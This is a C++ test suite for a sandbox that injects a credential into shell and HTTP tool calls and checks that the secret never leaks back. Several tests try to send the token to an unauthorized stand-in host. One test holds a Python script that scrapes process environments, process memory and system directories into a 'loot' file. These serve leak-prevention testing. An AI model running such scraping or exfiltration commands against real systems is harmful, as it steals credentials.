// Credentials: real clients in a cell act with a secret that they never see, towards the host that
// it is for, and nothing of it comes back.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>

#include "base/base64.h"
#include "support/inspect_lab.h"
#include "support/policy_calls.h"

namespace sallyport::test {
namespace {

using testing::AllOf;
using testing::HasSubstr;
using testing::Not;

namespace json = boost::json;

const std::string kSecret = "ghp_Zq7real0Secret1That2Nobody3Sees4x";

std::string hexadecimal(std::string_view bytes) {
  constexpr std::string_view kDigits = "0123456789abcdef";
  std::string text;
  for (const char c : bytes)
    text.append(
        {kDigits[static_cast<unsigned char>(c) >> 4], kDigits[static_cast<unsigned char>(c) & 15]});
  return text;
}

// Every form in which a part of the secret would give it away.
std::vector<std::string> traces() {
  const std::string core = kSecret.substr(4);
  std::vector<std::string> list = {core.substr(0, 16), core.substr(core.size() - 16),
                                   hexadecimal(core.substr(0, 8))};
  for (std::size_t before = 0; before < 3; ++before)
    list.push_back(to_base64(std::string(before, ' ') + core).substr(4, 16));
  std::string percent, wide;
  for (const char c : core.substr(0, 8)) {
    percent.append("%").append(hexadecimal({&c, 1}));
    wide.append({c, '\0'});
  }
  std::ranges::transform(percent, percent.begin(), [](unsigned char c) { return std::toupper(c); });
  list.insert(list.end(), {percent, wide});
  return list;
}

void expect_nothing_of_it(const std::string& text) {
  for (const std::string& trace : traces())
    EXPECT_EQ(text.find(trace), std::string::npos) << trace;
}

class Credentials : public PolicyCalls {
 protected:
  static void SetUpTestSuite() { lab_ = std::make_unique<InspectLab>(); }
  static void TearDownTestSuite() { lab_.reset(); }

  Credentials() {
    write_file(directory_ / "secret", kSecret + "\n", GetParam());
    EXPECT_EQ(::chmod((directory_ / "secret").c_str(), 0600), 0);
    lab_->set_password(kSecret);
    static_cast<void>(lab_->seen());
  }

  // A shell with the credential that `rules` describe, and which may reach another host.
  void shell(const std::string& rules, const std::string& more_tools = "") {
    policy(R"(
version: 1
roles: { worker: [go] }
callers: { will: { role: worker } }
defaults: { rate: 600/min }
tools:
  shell:
    use: run_shell
    needs: [go]
    screen: none
    limits: { memory: 1GB, file_size: 200MB }
    network: { allow: [{ host: second.example.com, inspect: true }], requests: 30 }
    credentials: [token]
)" + more_tools +
           R"(
credentials:
  token: { from: "file:)" +
           (directory_ / "secret") + "\", " + rules + " }\n");
  }

  Ran call_in_lab(const std::string& tool, const std::vector<std::string>& more) {
    // nsenter leaves the directory that it was called in.
    std::vector<std::string> argv = {"sh",
                                     "-c",
                                     "cd \"$0\" && exec \"$@\"",
                                     directory_.path(),
                                     sallyport_path(),
                                     "call",
                                     tool,
                                     "--policy",
                                     policy_,
                                     "--as",
                                     "will",
                                     "--state",
                                     directory_ / "state",
                                     "--json"};
    argv.insert(argv.end(), more.begin(), more.end());
    return lab_->run(GetParam(), argv);
  }
  json::object did(const std::string& script) {
    return call_in_lab("shell", {"code=exec 2>&1; " + script}).json();
  }
  std::string said(const std::string& script) { return text(did(script), "output"); }

  static std::unique_ptr<InspectLab> lab_;
};
std::unique_ptr<InspectLab> Credentials::lab_;
SALLYPORT_FOR_ROOT_AND_USER(Credentials);

constexpr const char* kPlaceholder = "env: GITHUB_TOKEN, to: [api.example.com]";

TEST_P(Credentials, ClientsActWithASecretThatTheyNeverSee) {
  shell(std::string(kPlaceholder) + ", places: [\"header:Authorization\", \"query:token\"]");
  const struct {
    const char* client;
    const char* script;
  } rows[] = {
      {"curl", "curl -sS -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.example.com/x"},
      {"basic", "curl -sS -u \"me:$GITHUB_TOKEN\" https://api.example.com/x"},
      {"query", "curl -sS \"https://api.example.com/x?token=$GITHUB_TOKEN\""},
      {"requests",
       "python3 -c 'import os, requests; print(requests.get(\"https://api.example.com/x\", "
       "headers={\"Authorization\": \"token \" + os.environ[\"GITHUB_TOKEN\"]}).text)'"},
      {"node",
       "node -e 'fetch(\"https://api.example.com/x\", {headers: {authorization: \"Bearer \" + "
       "process.env.GITHUB_TOKEN}}).then(r => r.text()).then(t => console.log(t))'"},
  };
  for (const auto& row : rows) {
    EXPECT_THAT(said(row.script), HasSubstr("GET /x")) << row.client;
    const std::string seen = lab_->seen();
    EXPECT_TRUE(seen.contains(kSecret) || seen.contains(to_base64("me:" + kSecret)))
        << row.client << ": " << seen;
  }
  // Letter by letter, so that no rule about secrets takes it out of the output.
  const std::string spell = "printf %s \"$GITHUB_TOKEN\" | sed 's/./&./g'";
  const std::string shown = said(spell);
  EXPECT_TRUE(shown.starts_with("g.h.p._.")) << shown;
  EXPECT_EQ(shown.size(), 80);
  EXPECT_NE(shown, said(spell)) << "another call has another";
}

// What a careless host says back. The twin: without the veil, the secret would be there.
TEST_P(Credentials, NothingOfItComesBack) {
  shell(kPlaceholder);
  const std::string ask = "curl -sS -i -H \"Authorization: Bearer $GITHUB_TOKEN\" ";
  for (const std::string way : {"raw", "base64", "hex", "url", "chunks", "header", "percent"}) {
    const std::string shown =
        said(ask + "https://api.example.com/tell/" + way + " | sed 's/./&./g'");
    EXPECT_THAT(shown, HasSubstr("H.T.T.P./.1...1.")) << way;
    EXPECT_THAT(shown, HasSubstr("*.*.*.*.*.*.")) << way;
    std::string plain;
    for (std::size_t i = 0; i < shown.size(); i += shown[i] == '\n' ? 1 : 2)
      plain.push_back(shown[i]);
    expect_nothing_of_it(plain);
    const std::string twin =
        lab_->run(GetParam(), {"curl", "-sS", "-i", "-H", "Authorization: Bearer " + kSecret,
                               "https://api.example.com/tell/" + way})
            .out;
    EXPECT_TRUE(std::ranges::any_of(traces(), [&](auto& trace) { return twin.contains(trace); }))
        << way;
  }
  const std::string coded = said(ask + "https://api.example.com/tell/gzip | tr -d '\\0'");
  EXPECT_THAT(coded, HasSubstr("cannot be looked into"));
  // Piece by piece, the host would be asked for parts that are too short to be known.
  static_cast<void>(lab_->seen());
  said(ask + "-H 'Range: bytes=0-9' https://api.example.com/tell/raw");
  EXPECT_THAT(lab_->seen(), AllOf(HasSubstr(kSecret), Not(HasSubstr("Range"))));
}

// A host may keep what one call has sent, and the next call asks for it without a credential.
TEST_P(Credentials, NorDoesAHostTellItToTheNextCall) {
  shell(kPlaceholder);
  const std::string ask = "curl -sS -H 'Accept-Encoding: gzip' ";
  said(ask + "-H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.example.com/tell/raw");
  static_cast<void>(lab_->seen());
  const std::string shown = said(ask + "https://api.example.com/tell/last | sed 's/./&./g'");
  EXPECT_THAT(shown, HasSubstr("B.e.a.r.e.r. .*.*.*.*."));
  EXPECT_THAT(lab_->seen(), AllOf(HasSubstr("Accept-Encoding: identity"), Not(HasSubstr("gzip"))));
  // The twin: the host does know it.
  EXPECT_EQ(lab_->run(GetParam(), {"curl", "-sS", "https://api.example.com/tell/last"}).out,
            "Bearer " + kSecret);
}

TEST_P(Credentials, AWebSocketDoesNotBringItEither) {
  shell(kPlaceholder);
  const std::string script = R"(cat > w.py <<'END'
import os, socket, ssl
link = ssl.create_default_context().wrap_socket(
    socket.create_connection(("api.example.com", 443)), server_hostname="api.example.com")
link.sendall(("GET /w HTTP/1.1\r\nHost: api.example.com\r\nUpgrade: websocket\r\n"
              "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
              "Sec-WebSocket-Version: 13\r\nAuthorization: Bearer %s\r\n\r\n"
              % os.environ["GITHUB_TOKEN"]).encode())
data = b""
while b"\r\n\r\n" not in data or b"\n" not in data.split(b"\r\n\r\n", 1)[1]:
    data += link.recv(1000)
link.sendall(b"more")
while not data.endswith(b"MORE"):
    data += link.recv(1000)
print(data.decode())
END
python3 w.py)";
  const std::string shown = said(script);
  EXPECT_THAT(shown,
              AllOf(HasSubstr("101 Switching"), HasSubstr("Bearer ****"), HasSubstr("MORE")));
  expect_nothing_of_it(shown);
}

// What is still open with a credential when a call is ended goes with it, and holds up nobody.
TEST_P(Credentials, ACallCanEndInTheMiddleOfIt) {
  shell("inject: bearer, to: [api.example.com]");
  const std::string open =
      "curl -sS -N -H 'Upgrade: websocket' -H 'Connection: Upgrade' https://api.example.com/w & ";
  for (int i = 0; i < 3; ++i) {
    const json::object result =
        call_in_lab("shell", {"--limit", "timeout=1s", "code=" + open + open + "sleep 60"}).json();
    EXPECT_EQ(text(result, "reason"), "timeout") << json::serialize(result);
  }
  EXPECT_THAT(lab_->seen(), HasSubstr("Bearer " + kSecret));
}

TEST_P(Credentials, APlaceholderThatGoesElsewhereIsRefusedAndFound) {
  shell("env: GITHUB_TOKEN, to: [api.example.com], methods: [GET], paths: [/v1]");
  const std::string bearer = "-H \"Authorization: Bearer $GITHUB_TOKEN\" ";
  const struct {
    const char* what;
    std::string script;
    const char* says;
  } rows[] = {
      {"host", "curl -sS " + bearer + "https://second.example.com/x", "is not for this host"},
      {"method", "curl -sS -X POST " + bearer + "https://api.example.com/v1/x",
       "no rule allows POST"},
      {"path", "curl -sS " + bearer + "https://api.example.com/v2/x", "no rule allows GET"},
      {"body", "curl -sS -d \"t=$GITHUB_TOKEN\" https://second.example.com/x", "curl: ("},
      {"query", "curl -sS \"https://second.example.com/x?t=$GITHUB_TOKEN\"", "not for this host"},
      {"cookie", "curl -sS -b \"t=$GITHUB_TOKEN\" https://second.example.com/x",
       "not for this host"},
      // The host itself is one that keeps what it is told, and shows it to others.
      {"a message", "curl -sS \"https://api.example.com/v1/post?text=$GITHUB_TOKEN\"",
       "not sent in the query as 'text'"},
      {"a note", "curl -sS -H \"X-Meta-Note: $GITHUB_TOKEN\" https://api.example.com/v1/x",
       "not sent in the header X-Meta-Note"},
  };
  for (const auto& row : rows) {
    const json::object result = did(row.script);
    EXPECT_THAT(text(result, "output"), HasSubstr(row.says)) << row.what;
    if (row.script.contains("second") || row.script.contains("/v1/post")) {
      const auto* findings = result.if_contains("findings");
      ASSERT_NE(findings, nullptr) << row.what << json::serialize(result);
      EXPECT_THAT(json::serialize(*findings),
                  AllOf(HasSubstr("credential_refused"), HasSubstr("token to ")))
          << row.what;
    }
    const std::string seen = lab_->seen();
    expect_nothing_of_it(seen);
    EXPECT_THAT(seen, Not(HasSubstr("ghp_"))) << row.what;
  }
  const auto all = records();
  ASSERT_GT(all.size(), 1);
  EXPECT_EQ(json::serialize(all[0].at("grants")), R"(["token"])");
  EXPECT_THAT(json::serialize(all[1].at("findings")), HasSubstr("credential_refused"));
}

TEST_P(Credentials, ARedirectDoesNotTakeItAlong) {
  shell("inject: bearer, to: [api.example.com]");
  const std::string shown = said("curl -sS -L https://api.example.com/tell/header");
  EXPECT_THAT(shown, HasSubstr("Host: second.example.com"));
  const std::string seen = lab_->seen();
  const std::size_t second = seen.find("second.example.com GET");
  ASSERT_NE(second, std::string::npos) << seen;
  EXPECT_THAT(seen.substr(0, second), HasSubstr("Bearer " + kSecret));
  expect_nothing_of_it(seen.substr(second));
  expect_nothing_of_it(shown);
}

TEST_P(Credentials, InjectedWithoutAPlaceholder) {
  const struct {
    const char* inject;
    std::string arrives;
  } rows[] = {
      {"bearer", "Authorization: Bearer " + kSecret},
      {"\"basic:git\"", "Authorization: Basic " + to_base64("git:" + kSecret)},
      {"\"header:X-Api-Key\"", "X-Api-Key: " + kSecret},
      {"\"query:api_key\"", "/x?a=1&api_key=" + kSecret},
  };
  for (const auto& row : rows) {
    shell(std::string("inject: ") + row.inject + ", to: [api.example.com]");
    EXPECT_THAT(said("curl -sS 'https://api.example.com/x?a=1'"), HasSubstr("GET /x"));
    EXPECT_THAT(lab_->seen(), HasSubstr(row.arrives)) << row.inject;
    EXPECT_THAT(said("curl -sS https://second.example.com/x"), HasSubstr("GET /x"));
    expect_nothing_of_it(lab_->seen());
  }
}

TEST_P(Credentials, GitOverHttps) {
  const std::string clone =
      "git clone -q https://api.example.com/private/repo.git here && cat here/hello.txt";
  shell("inject: \"basic:lab\", to: [api.example.com]");
  EXPECT_EQ(said(clone), "from a repository\n");
  shell(kPlaceholder);
  EXPECT_EQ(said("git clone -q https://lab:$GITHUB_TOKEN@api.example.com/private/repo.git here && "
                 "cat here/hello.txt"),
            "from a repository\n");
  // The twin: without it the repository is not to be had.
  EXPECT_THAT(said("GIT_TERMINAL_PROMPT=0 " + clone), HasSubstr("fatal"));
}

TEST_P(Credentials, HttpToolsHaveThem) {
  shell("inject: bearer, to: [api.example.com]", R"(
  ask:
    http: { method: GET, url: "https://api.example.com/tell/raw" }
    needs: [go]
    credentials: [token]
  fetch:
    use: http_fetch
    needs: [go]
    credentials: [token]
)");
  EXPECT_THAT(call_in_lab("ask", {}).out, HasSubstr("Bearer ****"));
  EXPECT_THAT(lab_->seen(), HasSubstr("Bearer " + kSecret));
  EXPECT_THAT(call_in_lab("fetch", {"url=https://api.example.com/tell/raw"}).out,
              HasSubstr("Bearer ****"));
  EXPECT_THAT(lab_->seen(), HasSubstr("Bearer " + kSecret));
}

TEST_P(Credentials, UsesAndTimeAreBounded) {
  shell("inject: bearer, to: [api.example.com], uses: 2");
  EXPECT_THAT(said("for i in 1 2 3; do curl -sS https://api.example.com/x; done"),
              HasSubstr("as often as it may"));
  shell("inject: bearer, to: [api.example.com], expires: 1s");
  EXPECT_THAT(
      said("curl -sS https://api.example.com/x; sleep 1.2; curl -sS https://api.example.com/x"),
      HasSubstr("shorter time"));
}

TEST_P(Credentials, ACallWithoutItsSecretIsRefusedBeforeItBegins) {
  shell(kPlaceholder);
  ASSERT_EQ(::unlink((directory_ / "secret").c_str()), 0);
  const json::object result = did("echo began");
  EXPECT_EQ(text(result, "status"), "blocked");
  EXPECT_EQ(text(result, "reason"), "unavailable");
  EXPECT_THAT(text(result, "message"), HasSubstr("the credential token cannot be had"));
}

// The secret may also lie about in a file. The twin: a tool that does not act with it shows it.
TEST_P(Credentials, WhatTheToolHasFromElsewhereIsCoveredToo) {
  shell(kPlaceholder, "  plain: { use: run_shell, needs: [go], screen: none }\n");
  write_file(directory_ / "found", "key=" + kSecret + " end\n", GetParam());
  const std::vector<std::string> words = {
      "--in", "found", "--out", "copy",
      "code=cat found; base64 -w0 found; head -c 20 found; sleep 0.2; tail -c +21 found; "
      "cat found found > copy; cat found >&2"};
  const json::object result = call_in_lab("shell", words).json();
  const std::string output = text(result, "output");
  EXPECT_THAT(output, AllOf(HasSubstr("key=****"), HasSubstr("* end\n")));
  expect_nothing_of_it(output);
  expect_nothing_of_it(text(result, "error"));
  expect_nothing_of_it(json::serialize(result));
  std::ifstream file(directory_ / "copy");
  std::ostringstream copy;
  copy << file.rdbuf();
  const std::string line = "key=" + std::string(kSecret.size(), '*') + " end\n";
  EXPECT_EQ(copy.str(), line + line);
  EXPECT_THAT(json::serialize(result.at("findings")), HasSubstr("credential_covered"));
  ASSERT_EQ(::unlink((directory_ / "copy").c_str()), 0);
  const json::object twin = call_in_lab("plain", words).json();
  EXPECT_THAT(text(twin, "output"), HasSubstr(kSecret));
}

// Every byte that the cell could read or make, looked through from outside.
TEST_P(Credentials, LeakHunt) {
  shell(kPlaceholder);
  const std::string script = R"(cat > hunt.py <<'END'
import glob, os, re
out = open("loot", "wb")
def take(path, most=1 << 22):
    try:
        with open(path, "rb") as file: out.write(file.read(most))
    except OSError: pass
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[a-z]*"):
    if os.path.basename(path) not in ("kcore", "kmsg", "kpagecount", "kpageflags", "kpagecgroup"):
        take(path, 1 << 20)
for root in ("/etc", "/tmp", "/workspace", "/dev/shm", "/run", "/var", "/home", "/root"):
    for folder, _, files in os.walk(root):
        for name in files:
            if os.path.join(folder, name) != "/workspace/loot": take(os.path.join(folder, name))
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try: maps, memory = open("/proc/%s/maps" % pid).read(), open("/proc/%s/mem" % pid, "rb", 0)
    except OSError: continue
    for line in maps.splitlines():
        match = re.match("([0-9a-f]+)-([0-9a-f]+) r", line)
        if not match or "vvar" in line or (" /" in line and " /workspace" not in line): continue
        begin, end = int(match[1], 16), int(match[2], 16)
        try:
            memory.seek(begin)
            out.write(memory.read(min(end - begin, 1 << 22)))
        except (OSError, ValueError, OverflowError): pass
END
curl -sS -i -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.com/tell/raw > one
python3 - <<'END'
import os, requests
for way in ("raw", "base64", "hex", "url", "chunks", "lines", "wide", "percent"):
    open(way, "wb").write(requests.get("https://api.example.com/tell/" + way, headers={"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]}).content)
exec(open("hunt.py").read())
END
ls -l loot)";
  const Ran ran = call_in_lab("shell", {"--out", "loot", "code=exec 2>&1; " + script});
  EXPECT_THAT(lab_->seen(), HasSubstr(kSecret));
  std::ifstream file(directory_ / "loot", std::ios::binary);
  std::ostringstream bytes;
  bytes << file.rdbuf();
  const std::string loot = bytes.str();
  EXPECT_GT(loot.size(), 3'000'000);
  EXPECT_NE(loot.find("GITHUB_TOKEN=ghp_"), std::string::npos) << "it does not look";
  EXPECT_NE(loot.find("Bearer ****"), std::string::npos) << "it does not look";
  expect_nothing_of_it(loot);
  expect_nothing_of_it(ran.out);
  // Nor in what is kept of the call.
  const Ran kept =
      test::run({"grep", "-r", "-l", "-a", kSecret.substr(4, 16), directory_ / "state"});
  EXPECT_EQ(kept.out, "");
}

}  // namespace
}  // namespace sallyport::test
